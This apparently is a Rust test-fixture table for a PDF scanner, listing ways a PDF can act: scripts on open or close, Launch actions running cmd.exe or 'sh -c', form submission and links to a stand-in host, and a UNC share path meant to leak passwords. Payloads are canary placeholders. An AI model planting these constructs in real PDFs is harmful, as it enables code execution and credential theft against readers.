//! What acts: scripts, programs, addresses, forms.

use super::Technique;

pub(super) const ALL: &[Technique] = &[
    Technique::written("script when opened", |d| {
        d.opens("/S/JavaScript/JS(app.alert(kanaria))");
    }),
    Technique::written("script in a stream when opened", |d| {
        d.opens("/S/JavaScript/JS 20 0 R");
        d.stream(20, "", b"var kanaria = util.printf; app.launchURL(kanaria)");
    }),
    Technique::written(
        "script of the document when it closes, saves, prints",
        |d| {
            let script = "<</S/JavaScript/JS(kanaria())>>";
            d.catalog(&format!(
                "/AA<</WC{script}/WS{script}/DS{script}/WP{script}/DP{script}>>"
            ));
        },
    ),
    Technique::written("script of the page when it opens and closes", |d| {
        d.page("/AA<</O<</S/JavaScript/JS(kanaria(1))>>/C<</S/JavaScript/JS(kanaria(2))>>>>");
    }),
    Technique::written("script among the names", |d| {
        d.catalog("/Names<</JavaScript<</Names[(kanaria)20 0 R]>>>>");
        d.put(20, "<</S/JavaScript/JS(kanaria())>>");
    }),
    Technique::written("script among the names, by kin", |d| {
        d.catalog("/Names 20 0 R");
        d.put(20, "<</JavaScript 21 0 R>>");
        d.put(21, "<</Kids[22 0 R]>>");
        d.put(22, "<</Limits[(a)(z)]/Names[(kanaria)23 0 R]>>");
        d.put(23, "<</S/JavaScript/JS 24 0 R>>");
        d.stream(24, "", b"kanaria()");
    }),
    Technique::written("script over several objects", |d| {
        d.catalog("/OpenAction 20 0 R");
        d.put(20, "<</Type/Action/S 21 0 R/JS 22 0 R>>");
        d.put(21, "/JavaScript");
        d.put(22, "(eval(this.info.kanaria))");
        d.put(23, "<</kanaria(app.alert(1))>>");
        d.trailer("/Info 23 0 R");
    }),
    Technique::written("chain of actions", |d| {
        d.opens("/S/GoTo/D[3 0 R/Fit]/Next[20 0 R 21 0 R]");
        d.put(20, "<</S/Named/N/Print/Next 21 0 R>>");
        d.put(
            21,
            "<</S/JavaScript/JS(kanaria())/Next<</S/Launch/F(kanaria.exe)>>>>",
        );
    }),
    Technique::written("chain of actions without an end", |d| {
        d.opens("/S/GoTo/D[3 0 R/Fit]/Next 20 0 R");
        d.put(20, "<</S/JavaScript/JS(kanaria())/Next 21 0 R>>");
        d.put(21, "<</S/Named/N/kanaria/Next 20 0 R>>");
    }),
    Technique::written("program of Windows", |d| {
        d.opens("/S/Launch/Win<</F(cmd.exe)/P(/c start kanaria.exe)/D(c:)/O(open)>>");
    }),
    Technique::written("program of Unix and of a Mac", |d| {
        d.opens("/S/Launch/Unix(sh -c kanaria)/Mac<</F(kanaria.app)>>/F(kanaria)/NewWindow true");
    }),
    Technique::written("program behind a link", |d| {
        d.annotation(
            "/Subtype/Link/A<</S/Launch/F<</Type/Filespec/F(kanaria.exe)/UF(kanaria.exe)>>>>",
        );
    }),
    Technique::written("address behind a link", |d| {
        d.annotation("/Subtype/Link/A<</S/URI/URI(https://kanaria.example/?id=1)>>");
    }),
    Technique::written("script as an address", |d| {
        d.annotation("/Subtype/Link/A<</S/URI/URI(javascript:kanaria())>>");
    }),
    Technique::written("address with a base elsewhere", |d| {
        d.catalog("/URI<</Base(https://kanaria.example/)>>");
        d.annotation("/Subtype/Link/A<</S/URI/URI(steal)/IsMap true>>");
    }),
    Technique::written("address of a share of the house, for its passwords", |d| {
        d.opens("/S/GoToR/F(\\\\kanaria.example\\share\\a.pdf)/D[0/Fit]");
    }),
    Technique::written("another file", |d| {
        d.opens("/S/GoToR/F<</FS/URL/F(https://kanaria.example/a.pdf)>>/D[0/Fit]/NewWindow true");
    }),
    Technique::written("a file inside this one", |d| {
        d.opens("/S/GoToE/D[0/Fit]/T<</R/C/N(kanaria.pdf)>>");
        d.catalog("/Names<</EmbeddedFiles<</Names[(kanaria.pdf)20 0 R]>>>>");
        d.put(20, "<</Type/Filespec/F(kanaria.pdf)/EF<</F 21 0 R>>>>");
        d.stream(21, "/Type/EmbeddedFile", b"%PDF-1.4 kanaria");
    }),
    Technique::written("form that sends itself", |d| {
        d.catalog("/AcroForm<</Fields[10 0 R]/NeedAppearances true>>");
        d.annotation("/Subtype/Widget/FT/Btn/Ff 65536/T(kanaria)/A<</S/SubmitForm/F<</FS/URL/F(https://kanaria.example/)>>/Flags 4>>");
    }),
    Technique::written("form that fetches its data", |d| {
        d.opens("/S/ImportData/F(kanaria.fdf)");
    }),
    Technique::written("form that is emptied, hidden and shown", |d| {
        d.opens("/S/ResetForm/Fields[(kanaria)]/Next<</S/Hide/T(kanaria)/H false>>");
    }),
    Technique::written("scripts of a field", |d| {
        let script = "<</S/JavaScript/JS(kanaria())>>";
        d.catalog("/AcroForm<</Fields[10 0 R]>>");
        d.annotation(&format!(
            "/Subtype/Widget/FT/Tx/T(a)/AA<</K{script}/F{script}/V{script}/C{script}/E{script}/X{script}/D{script}/Fo{script}/Bl{script}>>"
        ));
    }),
    Technique::written("order of calculation", |d| {
        d.catalog("/AcroForm<</Fields[10 0 R]/CO[10 0 R]>>");
        d.annotation("/Subtype/Widget/FT/Tx/T(a)/AA<</C<</S/JavaScript/JS(kanaria())>>>>");
    }),
    Technique::written("form of XML with a script", |d| {
        d.catalog("/AcroForm<</Fields[]/XFA[(template)20 0 R]>>/NeedsRendering true");
        d.stream(20, "", b"<template xmlns='http://www.xfa.org/schema/xfa-template/2.5/'><subform><event activity='docReady'><script contentType='application/x-javascript'>kanaria()</script></event></subform></template>");
    }),
    Technique::written("form of XML in one stream", |d| {
        d.catalog("/AcroForm<</Fields[]/XFA 20 0 R>>");
        d.stream(20, "", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><?xml-stylesheet href='https://kanaria.example/a.xsl'?><submit target='https://kanaria.example/'/></xdp:xdp>");
    }),
    Technique::written("signature field that locks others", |d| {
        d.catalog("/AcroForm<</Fields[10 0 R]/SigFlags 3>>/Perms<</DocMDP 20 0 R>>");
        d.annotation("/Subtype/Widget/FT/Sig/T(kanaria)/V 20 0 R/Lock<</Type/SigFieldLock/Action/All>>/SV<</Type/SV/Cert<</URL(https://kanaria.example/)>>>>");
        d.put(20, "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 1 2 3]/Contents<6b616e61726961>/Reason(kanaria)/Location(kanaria)>>");
    }),
    Technique::written("commands by name", |d| {
        d.opens("/S/Named/N/SaveAs/Next<</S/Named/N/kanaria>>");
    }),
    Technique::written("requirements with a handler", |d| {
        d.catalog("/Requirements[<</S/EnableJavaScripts/RH<</S/JS/Script(kanaria)>>>>]");
    }),
    Technique::written("bookmark that acts", |d| {
        d.catalog("/Outlines 20 0 R");
        d.put(20, "<</Type/Outlines/First 21 0 R/Last 21 0 R/Count 1>>");
        d.put(
            21,
            "<</Title(Mokuji)/Parent 20 0 R/A<</S/JavaScript/JS(app.launchURL(kanaria))>>>>",
        );
    }),
    Technique::written("step of a presentation that acts", |d| {
        d.page(
            "/PresSteps<</Type/NavNode/NA<</S/JavaScript/JS(kanaria())>>/Dur 1>>/Trans<</S/Fly>>",
        );
    }),
    Technique::written("script of a layer switch", |d| {
        d.opens("/S/SetOCGState/State[/ON 20 0 R]/Next<</S/JavaScript/JS(kanaria())>>");
        d.put(20, "<</Type/OCG/Name(kanaria)>>");
        d.catalog("/OCProperties<</OCGs[20 0 R]/D<</ON[20 0 R]>>>>");
    }),
    Technique::written("key spelt twice", |d| {
        d.catalog("/OpenAction[3 0 R/Fit]/OpenAction<</S/JavaScript/JS(kanaria())>>");
    }),
];
